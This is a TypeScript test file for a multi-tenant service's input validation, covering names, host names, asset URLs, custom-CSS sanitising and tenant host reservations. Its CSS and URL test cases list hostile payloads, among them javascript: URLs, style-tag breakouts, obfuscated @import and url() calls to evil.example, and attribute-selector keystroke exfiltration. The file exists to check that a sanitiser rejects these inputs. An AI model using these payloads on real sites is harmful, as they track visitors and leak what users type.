import { DomainError } from '../common/domain-error';
import { zodErrors } from '../common/input';
import { checkBodyId, clientInputSchema, cssProblem, isSafeAssetUrl, MESSAGES, parseClientInput, parseHostName } from './client-input';
import { decideRelease, decideReserve, evolveTenantHost, initialTenantHost, TenantHostEvent } from './tenant-host';

const fold = (events: TenantHostEvent[]) => events.reduce(evolveTenantHost, initialTenantHost);

describe('parseClientInput', () => {
  it('trims, lowercases names, defaults the colours and leaves empty optional fields out', () => {
    expect(
      parseClientInput(
        { name: ' Acme ', subdomain: 'ACME', customDomain: 'QR.Acme.Example.', customCSS: '  ', logoUrl: '' },
        'qrsharks.test',
      ),
    ).toEqual({
      name: 'Acme',
      subdomain: 'acme',
      customDomain: 'qr.acme.example',
      logoUrl: null,
      customFavicon: null,
      primaryColor: '#3B82F6',
      secondaryColor: '#1E40AF',
      removeQRCodeSharksBranding: false,
      customCSS: null,
      isActive: undefined,
    });
  });

  it('collects every bad field in one DomainError, the first message on top', () => {
    try {
      parseClientInput({ subdomain: '-x', primaryColor: 'blue' }, 'qrsharks.test');
      throw new Error('expected a DomainError');
    } catch (error) {
      expect(error).toBeInstanceOf(DomainError);
      expect((error as DomainError).message).toBe(MESSAGES.nameRequired);
      expect((error as DomainError).fields).toEqual({
        name: MESSAGES.nameRequired,
        subdomain: MESSAGES.subdomain,
        primaryColor: MESSAGES.color('Primary colour'),
      });
    }
  });
});

describe('clientInputSchema (what the routes parse)', () => {
  const fields = (body: unknown) => {
    const parsed = clientInputSchema.safeParse(body);
    return parsed.success ? null : zodErrors(parsed.error);
  };

  it('refuses control characters and lone surrogates in any text field, with the field', () => {
    expect(fields({ name: 'A\u0000B' })).toEqual({ name: 'Name contains characters that are not allowed' });
    expect(fields({ name: 'A', customCSS: 'a{}\uD800' })).toEqual({ customCSS: 'Custom CSS contains characters that are not allowed' });
    expect(fields({ name: 'A', logoUrl: '/x\u0007' })).toEqual({ logoUrl: 'Logo URL contains characters that are not allowed' });
  });

  it('reads the checkboxes as booleans or their strings; anything else is the field message', () => {
    expect(clientInputSchema.parse({ name: 'A', removeQRCodeSharksBranding: 'true', isActive: false })).toMatchObject({
      removeQRCodeSharksBranding: true,
      isActive: false,
    });
    const absent = clientInputSchema.parse({ name: 'A' });
    expect([absent.removeQRCodeSharksBranding, absent.isActive]).toEqual([false, undefined]);
    expect(fields({ name: 'A', isActive: 'maybe' })).toEqual({ isActive: 'isActive must be true or false' });
  });

  it("keeps the id the page repeats on PUT, as a number; checkBodyId refuses one that is not the path's", () => {
    expect(clientInputSchema.parse({ name: 'A', id: '4' }).id).toBe(4);
    expect(clientInputSchema.parse({ name: 'A', id: null }).id).toBeUndefined();
    expect(() => checkBodyId(4, 4)).not.toThrow();
    expect(() => checkBodyId(4, undefined)).not.toThrow();
    expect(() => checkBodyId(4, 5)).toThrow(expect.objectContaining({ status: 400, fields: { id: MESSAGES.idMismatch } }));
  });

  it('names NFC-normalised without bidi controls; a name of invisible characters is no name', () => {
    expect(clientInputSchema.parse({ name: 'Cafe\u0301\u202E' }).name).toBe('Caf\u00e9');
    expect(fields({ name: '\u200B' })).toEqual({ name: MESSAGES.nameRequired });
  });
});

describe('host names, asset URLs and custom CSS', () => {
  it.each([
    ['qr.example.com', 'qr.example.com'],
    ['Example.COM', 'example.com'],
    ['localhost', null],
    ['1.2.3.4', null],
    ['a..b', null],
    ['https://x.com', null],
    ['x.com/path', null],
  ])('parseHostName(%s) = %s', (raw, expected) => expect(parseHostName(raw)).toBe(expected));

  it.each([
    ['https://cdn.example/logo.png', true],
    ['http://cdn.example/logo.png', true],
    ['/uploads/logo.png', true],
    ['//evil.example/x', false],
    ['/\\evil.example', false],
    ['javascript:alert(1)', false],
    ['data:image/png;base64,AAAA', false],
    ['https://x.example/a"onerror="x', false],
  ])('isSafeAssetUrl(%s) = %s', (value, expected) => expect(isSafeAssetUrl(value)).toBe(expected));

  it.each([
    ['body { color: red }', null],
    ['@import "/fonts.css";', null],
    ['@import url(/fonts.css);', null],
    ['@import url(https://evil.example/a.css);', MESSAGES.cssImport],
    ["@import 'http://evil.example/a.css';", MESSAGES.cssImport],
    ['@IMPORT "//evil.example/a.css";', MESSAGES.cssImport],
    ['@im/**/port "//evil.example/a.css";', MESSAGES.cssImport],
    ['@\\69mport "https://evil.example/a.css";', MESSAGES.cssImport],
    ['a{}</STYLE><script>x</script>', MESSAGES.cssStyleTag],
    ['a{}<\\/style>', MESSAGES.cssStyleTag],
    ['a{background:url(javascript:alert(1))}', MESSAGES.cssScript],
    ['a{width:expression(alert(1))}', MESSAGES.cssScript],
  ])('cssProblem(%s) = %s', (css, expected) => expect(cssProblem(css)).toBe(expected));

  // Issue 27 item 7: a fetch from anywhere but the tenant's own uploads tracks visitors and, with attribute selectors
  // (input[value^="a"] { background: url(https://evil/a) }), reads what they type.
  const UPLOAD = '/uploads/0b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d.png';
  it.each([
    [`a{background:url(${UPLOAD})}`, null],
    [`a{background:url("${UPLOAD}")}`, null],
    [`a{background-image:image-set("${UPLOAD}" 1x, url('${UPLOAD}') 2x)}`, null],
    [`a{background-image:image-set("${UPLOAD}" type("image/png") 1x)}`, null],
    [`@font-face{font-family:"Brand Sans";src:local("Brand Sans"),url(${UPLOAD})}`, null],
    ['a{filter:url(#soften)}', null],
    ['a{content:"url(https://evil.example/x)"}', null],
    ['@namespace svg url(http://www.w3.org/2000/svg); a{color:red}', null],
    ['input[value^="a"]{background:url(https://evil.example/a)}', MESSAGES.cssExternal],
    ['a{background:URL( "https://evil.example/a" )}', MESSAGES.cssExternal],
    ["a{background:url('//evil.example/a')}", MESSAGES.cssExternal],
    ['a{background:url(/api/user)}', MESSAGES.cssExternal],
    ['a{background:url(/uploads/../api/user)}', MESSAGES.cssExternal],
    ['a{background:url(data:image/svg+xml;base64,AAAA)}', MESSAGES.cssExternal],
    ['a{background:\\75 rl(https://evil.example/a)}', MESSAGES.cssExternal],
    ['a{background:\\75rl(https://evil.example/a)}', MESSAGES.cssExternal],
    ['a{background:u\\72l(https://evil.example/a)}', MESSAGES.cssExternal],
    ['a{background:\\55 \\52 \\4c (https://evil.example/a)}', MESSAGES.cssExternal],
    ['a{background:url(\\68ttps://evil.example/a)}', MESSAGES.cssExternal],
    ['a{background:url("\\2f\\2f evil.example/a")}', MESSAGES.cssExternal],
    ['a{background:/**/url(https://evil.example/a)/**/}', MESSAGES.cssExternal],
    ['a{background:url(\n\thttps://evil.example/a\n)}', MESSAGES.cssExternal],
    // A "/*" inside a string is no comment: the url() after it is live (a comment-stripping scan would miss it).
    [`a{background:url("${UPLOAD}/*")} b{background:url(https://evil.example/a)} /**/`, MESSAGES.cssExternal],
    [`a{content:"/*"} b{background:url(https://evil.example/a)} c{content:"*/"}`, MESSAGES.cssExternal],
    ['a{background-image:image-set("https://evil.example/a.png" 1x)}', MESSAGES.cssExternal],
    ["a{background-image:-webkit-image-set('https://evil.example/a.png' 1x)}", MESSAGES.cssExternal],
    ['a{background-image:IMAGE-SET(url(https://evil.example/a.png) 1x)}', MESSAGES.cssExternal],
    ['a{--u:"https://evil.example/a.png";background-image:image-set(var(--u) 1x)}', MESSAGES.cssExternal],
    ['a{background-image:cross-fade(url(https://evil.example/a.png), url(/uploads/x.png), 50%)}', MESSAGES.cssExternal],
    ['a{background-image:image("https://evil.example/a.png")}', MESSAGES.cssExternal],
    ['@font-face{font-family:x;src:url(https://evil.example/f.woff2) format("woff2")}', MESSAGES.cssExternal],
    ['@FONT-FACE{font-family:x;src:local(x),url("https://evil.example/f.woff2")}', MESSAGES.cssExternal],
    ['@media screen{@font-face{font-family:x;src:"https://evil.example/f.woff2"}}', MESSAGES.cssExternal],
    ['a{cursor:url(https://evil.example/c.png),auto}', MESSAGES.cssExternal],
    ['a{background:src("https://evil.example/a")}', MESSAGES.cssExternal],
    ['a{background:url(https://evil.example/a b)}', MESSAGES.cssExternal],
    // Kept: @import from another site keeps its own message, in the spellings a comment-stripping scan missed too.
    ['@import "/x.css/*"; @import "https://evil.example/a.css"; /**/', MESSAGES.cssImport],
    ['@import "/\\\\evil.example/a.css";', MESSAGES.cssImport],
    ['@import url("/fonts.css");', null],
  ])('cssProblem(%s) = %s (url, image-set, @font-face)', (css, expected) => expect(cssProblem(css)).toBe(expected));
});

describe('tenant host reservations', () => {
  it('a free name is reserved; a taken one is refused; the holder re-reserving records nothing', () => {
    expect(decideReserve(initialTenantHost, 'acme', 2, 'subdomain')).toEqual([
      { type: 'TenantHostReserved', data: { host: 'acme', clientId: 2 } },
    ]);
    const taken = fold([{ type: 'TenantHostReserved', data: { host: 'acme', clientId: 2 } }]);
    expect(() => decideReserve(taken, 'acme', 3, 'subdomain')).toThrow(
      expect.objectContaining({
        status: 409,
        message: 'The subdomain "acme" is already used by another client',
        fields: { subdomain: 'The subdomain "acme" is already used by another client' },
      }),
    );
    expect(decideReserve(taken, 'acme', 2, 'subdomain')).toEqual([]);
  });

  it('released by its holder only, then free for anyone', () => {
    const taken = fold([{ type: 'TenantHostReserved', data: { host: 'acme', clientId: 2 } }]);
    expect(decideRelease(taken, 'acme', 3)).toEqual([]);
    const released = decideRelease(taken, 'acme', 2);
    const free = fold([{ type: 'TenantHostReserved', data: { host: 'acme', clientId: 2 } }, ...released]);
    expect(free.takenBy).toBeNull();
    expect(decideReserve(free, 'acme', 3, 'subdomain')).toHaveLength(1);
  });
});
